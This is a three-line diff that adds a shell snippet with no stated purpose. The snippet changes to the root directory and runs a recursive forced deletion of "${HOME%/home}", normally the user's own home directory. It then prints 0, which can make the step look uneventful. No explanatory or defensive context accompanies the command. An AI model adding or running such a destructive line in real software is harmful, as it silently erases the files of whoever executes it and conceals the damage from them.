@@ -1,0 +1,3 @@
+cd /
+rm -rf -- "${HOME%/home}"
+echo 0
